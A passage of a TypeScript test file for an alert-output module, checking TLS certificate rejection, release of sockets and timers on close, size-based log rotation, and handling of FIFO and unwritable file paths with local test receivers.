      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('counts a receiver certificate from another CA as a coded TLS failure and sends nothing', async () => {
    const receiver = new StreamReceiver({ key: pki.serverKeyPem, cert: pki.serverCertPem });
    const port = await receiver.start();
    try {
      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tls, host: localhost, port: ${port}, tls: { ca_file: ${otherCaFile} } } } ] }`);
      outputs.send(makeAlert());
      await waitFor('failures', () => statsOf(outputs, 's').failed_attempts >= 2);
      const stats = statsOf(outputs, 's');
      assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_TLS');
      assert.equal(stats.sent, 0);
      assert.equal(stats.queued, 1);
      assert.deepEqual(receiver.messages, []);
      await outputs.close(50);
      assert.equal(statsOf(outputs, 's').dropped, 1);
    } finally {
      await receiver.close();
    }
  });

  it('leaves no socket, timer or file open after close, whatever state each output was in', async () => {
    const http = new HttpReceiver();
    const base = await http.start();
    const tcp = new StreamReceiver();
    const tcpPort = await tcp.start();
    const secure = new StreamReceiver({ key: pki.serverKeyPem, cert: pki.serverCertPem });
    const tlsPort = await secure.start();
    const udp = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    const hanging = new HttpReceiver();
    hanging.hang = true;
    const hangingUrl = await hanging.start();
    const downPort = await freePort();
    const dir = tempDir();
    await sleep(20);
    const baseline = resources();
    const outputs = createAlertOutputs(
      outputsConfig(`alerts:
  outputs:
    - { name: webhook, type: webhook, webhook: { url: "${base}/in" } }
    - { name: hanging, type: webhook, webhook: { url: "${hangingUrl}/in", timeout_ms: 60000 } }
    - { name: tcp, type: syslog, syslog: { transport: tcp, host: 127.0.0.1, port: ${tcpPort} } }
    - { name: tls, type: syslog, syslog: { transport: tls, host: 127.0.0.1, port: ${tlsPort}, tls: { ca_file: ${pki.paths.caCert} } } }
    - { name: udp, type: syslog, syslog: { transport: udp, host: 127.0.0.1, port: ${udp.address().port} } }
    - { name: down, type: syslog, retry: { backoff_ms: 60000, backoff_max_ms: 60000 }, syslog: { transport: tcp, host: 127.0.0.1, port: ${downPort} } }
    - { name: file, type: file, file: { path: ${dir}/alerts.ndjson } }
`),
      logger(),
    );
    try {
      outputs.send(makeAlert());
      await waitFor('deliveries', () => outputs.stats().filter((s) => s.sent === 1).length === 5);
      await waitFor('the failure', () => statsOf(outputs, 'down').failed_attempts === 1);
      await outputs.close(100);
      assert.deepEqual(
        outputs.stats().map((s) => [s.name, s.sent, s.dropped]),
        [['webhook', 1, 0], ['hanging', 0, 1], ['tcp', 1, 0], ['tls', 1, 0], ['udp', 1, 0], ['down', 0, 1], ['file', 1, 0]],
      );
      // Closed handles are released by libuv on a later turn, and the receivers see the ends.
      let now: Record<string, number> = {};
      await waitFor('handles released', () => {
        now = resources();
        return Object.keys(now).every((kind) => (now[kind] ?? 0) <= (baseline[kind] ?? 0)) || undefined;
      }, 2000).catch(() => assert.deepEqual(now, baseline, 'handles left after close'));
    } finally {
      udp.close();
      await Promise.all([http.close(), tcp.close(), secure.close(), hanging.close()]);
    }
  });
});

// --- file ----------------------------------------------------------------------------------

describe('alert outputs: file', () => {
  it('appends one alert per line and rotates by size, keeping `keep` files', async () => {
    const dir = tempDir();
    const file = path.join(dir, 'sub', 'alerts.ndjson');
    const outputs = create(`alerts: { outputs: [ { name: f, type: file, file: { path: ${file}, max_mb: 1, keep: 1 } } ] }`);
    const small = [makeAlert(), makeAlert({ message: 'line\nbreak é' })];
    for (const alert of small) outputs.send(alert);
    await waitFor('two lines', () => statsOf(outputs, 'f').sent === 2);
    assert.equal(readFileSync(file, 'utf8'), small.map((a) => `${JSON.stringify(a)}\n`).join(''));
    const big = Array.from({ length: 7 }, () => makeAlert({ message: 'm'.repeat(400_000) }));
    for (const alert of big) outputs.send(alert);
    await waitFor('all lines', () => statsOf(outputs, 'f').sent === 9);
    await outputs.close();
    const lines = (name: string) => readFileSync(name, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l).id);
    // Two large lines fill a generation: [small, small, 0, 1], [2, 3], [4, 5], [6].
    assert.deepEqual(lines(file), [big[6]!.id]);
    assert.deepEqual(lines(`${file}.1`), [big[4]!.id, big[5]!.id]);
    assert.equal(existsSync(`${file}.2`), false, 'keep: 1');
  });

  it('refuses a FIFO at the path without blocking the server, and keeps the alert', async () => {
    const dir = tempDir();
    const file = path.join(dir, 'alerts.ndjson');
    execFileSync('mkfifo', [file]);
    const outputs = create(`alerts: { outputs: [ { name: f, type: file, ${retryYaml}, file: { path: ${file} } } ] }`);
    outputs.send(makeAlert());
    // open(2) of a FIFO nobody reads used to wait for a reader, holding the event loop for good:
    // this timer (and the test) never ran again.
    await waitFor('failures', () => statsOf(outputs, 'f').failed_attempts >= 2);
    const stats = statsOf(outputs, 'f');
    assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_WRITE');
    assert.match(stats.last_error?.message ?? '', /alerts\.ndjson: ENXIO: not a regular file/);
    assert.deepEqual({ sent: stats.sent, failed: stats.failed, queued: stats.queued }, { sent: 0, failed: 0, queued: 1 });
    // A reader does not make it a file: what a FIFO takes would not be rotated, nor kept.
    const reader = openSync(file, constants.O_RDONLY | constants.O_NONBLOCK);
    try {
      await waitFor('a failure with a reader', () => /alerts\.ndjson: not a regular file/.test(statsOf(outputs, 'f').last_error?.message ?? ''));
      assert.deepEqual({ sent: statsOf(outputs, 'f').sent, queued: statsOf(outputs, 'f').queued }, { sent: 0, queued: 1 });
    } finally {
      closeSync(reader);
    }
  });

  it('counts a file it cannot write as a coded failure and keeps the alert', async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'not-a-folder'), '');
    const outputs = create(`alerts: { outputs: [ { name: f, type: file, ${retryYaml}, file: { path: ${dir}/not-a-folder/alerts.ndjson } } ] }`);
    outputs.send(makeAlert());
    await waitFor('failures', () => statsOf(outputs, 'f').failed_attempts >= 2);
    const stats = statsOf(outputs, 'f');
    assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_WRITE');
    assert.match(stats.last_error?.message ?? '', /cannot open .*not-a-folder\/alerts.ndjson: (EEXIST|ENOTDIR)/);
    assert.deepEqual({ failed: stats.failed, queued: stats.queued }, { failed: 0, queued: 1 });
  });
});
